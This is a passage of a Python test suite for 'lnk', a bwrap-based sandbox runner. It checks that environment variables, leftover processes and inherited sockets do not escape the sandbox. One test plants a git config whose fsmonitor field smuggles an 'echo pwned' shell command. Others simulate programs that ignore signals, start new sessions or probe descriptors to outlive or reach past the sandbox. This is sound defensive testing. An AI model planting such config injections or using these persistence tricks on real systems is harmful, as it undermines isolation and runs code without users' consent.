    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    repo.chmod(0o777)
    _tool_on_path(lnk, tmp_path, "#!/bin/sh\n"
                  f"cd {repo} && git status >/dev/null 2>&1\n"
                  "env | grep -c -e ^XDG_CONFIG_HOME= -e ^GIT_CONFIG_GLOBAL= "
                  "-e ^MY_FILES= || true\n")
    base = lnk.env
    lnk.env = lambda extra=None: {
        **base(extra), "XDG_CONFIG_HOME": f"{work}/.config",
        "GIT_CONFIG_GLOBAL": f"{work}/gitconfig",
        "MY_FILES": f"/opt/x:{work}/y"}
    evil = f'[core]\\n\\tfsmonitor = "echo pwned > {marker}; false"\\n'
    cp = sh(lnk, f"mkdir -p .config/git; printf '{evil}' > .config/git/"
            f"config; printf '{evil}' > gitconfig; mytool",
            "--write", work, "--tool", "mytool *")
    assert not marker.exists(), (cp.stdout, cp.stderr)
    assert cp.returncode == 0, (cp.stdout, cp.stderr)
    assert cp.stdout.strip() == "0", cp.stdout


# =============================================================================
# What is left when lnk returns
#
# lnk does its own end of a run (the registry, the guard's threads, the
# device nodes, a cgroup only the program was in) as soon as the guard sees
# every process of the sandbox gone, while the kernel still takes the
# sandbox's namespaces down, and returns once bwrap has exited. Returning
# earlier, on a status lnk-init could send, would leave bwrap to whoever
# adopts it: these tests hold both ends.

def _run_to_file(lnk, tmp_path, *args, timeout=60):
    """lnk sandbox run ARGS, its output to a file, not a pipe: the caller
    waits for lnk alone (a pipe's end would also wait for bwrap)."""
    out = tmp_path / "out"
    with open(out, "w") as f:
        p = subprocess.Popen([lnk.bin, "sandbox", "run", *map(str, args)],
                             stdout=f, stderr=subprocess.STDOUT,
                             env=lnk.env(), cwd=lnk.cwd)
        rc = p.wait(timeout=timeout)
    return rc, out.read_text()


def test_run_returns_only_once_nothing_of_the_sandbox_runs(lnk, work,
                                                           tmp_path):
    """Threat: a program leaves processes behind that would outlive it (one
    ignoring every signal it may, one in a session of its own, one
    stopped), so that they still run when lnk has returned and the user
    believes the sandbox gone. When lnk returns, no process of the sandbox
    is left, every time."""
    tag = f"lnkleft{os.getpid()}x{time.time_ns()}"
    script = (
        "import os, signal, subprocess\n"
        "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
        "    signal.signal(s, signal.SIG_IGN)\n"
        f"a = ['/bin/bash', '-c', 'exec -a {tag} /bin/sleep 600']\n"
        "subprocess.Popen(a)\n"
        "subprocess.Popen(a, start_new_session=True)\n"
        "p = subprocess.Popen(a)\n"
        "os.kill(p.pid, signal.SIGSTOP)\n"
        "os._exit(3)\n")
    for _ in range(5):
        rc, out = _run_to_file(lnk, tmp_path, "--write", work, "--",
                               "/usr/bin/python3", "-c", script)
        left = subprocess.run(["pgrep", "-f", tag], capture_output=True,
                              text=True).stdout.split()
        for pid in left:
            os.kill(int(pid), signal.SIGKILL)
        assert rc == 3, out
        assert left == [], f"still running when lnk returned: {left}"


def test_run_leaves_no_process_behind_for_its_caller_to_reap(lnk, work,
                                                            tmp_path):
    """Threat: lnk returns while bwrap (or anything else it started) still
    runs. The orphan is adopted by the nearest subreaper or by pid 1, and
    in a container whose pid 1 is node or python it is never reaped:
    every run would leave a zombie until the container runs out of pids.
    The test process is a subreaper: whatever lnk leaves behind becomes
    its child, and there must be none when lnk has returned."""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    PR_SET_CHILD_SUBREAPER = 36
    assert libc.prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0) == 0
    try:
        for _ in range(5):
            rc, out = _run_to_file(lnk, tmp_path, "--write", work, "--",
                                   "/bin/true")
            assert rc == 0, out
            try:
                left = os.waitpid(-1, os.WNOHANG)
            except ChildProcessError:
                left = None
            assert left is None, f"lnk left a child behind: {left}"
    finally:
        libc.prctl(PR_SET_CHILD_SUBREAPER, 0, 0, 0, 0)
        while True:
            try:
                if os.waitpid(-1, 0)[0] == 0:
                    break
            except ChildProcessError:
                break


def test_program_holds_no_socket_to_lnk(lnk, work):
    """Threat: pid 1 keeps the guard's socket until lnk has sent the
    sandbox's cgroup on it (cgroup v1), and the program, holding it, would
    talk to lnk's guard or take a cgroup file sent later. pid 1 keeps it
    close-on-exec and closes it before the fork: the program starts with
    no descriptor but its stdio, and a send on any number fails."""
    cp = lnk.run("--write", work, "--", "/usr/bin/python3", "-c", """
import os, socket
fds = []
for f in os.listdir('/proc/self/fd'):
    try:
        fds.append((int(f), os.readlink(f'/proc/self/fd/{f}')))
    except OSError:
        pass  # listdir's own, closed by now
print(sorted(f for f, _ in fds if f > 2))
for f in range(3, 64):
    try:
        s = socket.socket(fileno=f)
    except OSError:
        continue
    try:
        s.send(b'E\\0\\0\\0\\0')
        print('sent on', f)
    except OSError:
        pass
    s.detach()
""")
    assert cp.returncode == 0, cp.stderr
    assert cp.stdout == "[]\n", cp.stdout
